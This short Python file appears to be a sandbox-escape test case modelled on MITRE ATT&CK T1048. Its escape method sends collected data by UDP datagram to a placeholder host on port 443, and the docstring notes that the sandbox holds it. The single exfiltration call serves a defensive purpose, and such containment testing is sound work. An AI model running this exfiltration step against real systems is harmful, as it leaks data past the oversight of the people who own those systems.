"""A server sends what it found in datagrams, to the port of a host that it was given.

Source: MITRE ATT&CK T1048, Exfiltration Over Alternative Protocol.
Seen: nobody answers; no datagram leaves its sandbox.
"""

import socket

from escaping import HELD, Escaping


class Attack(Escaping):
    def escape(self):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(0.3)
            one.sendto(b"what it read", ("192.0.2.7", 443))
            return f"answered: {one.recv(10)!r}"


SEEN = HELD
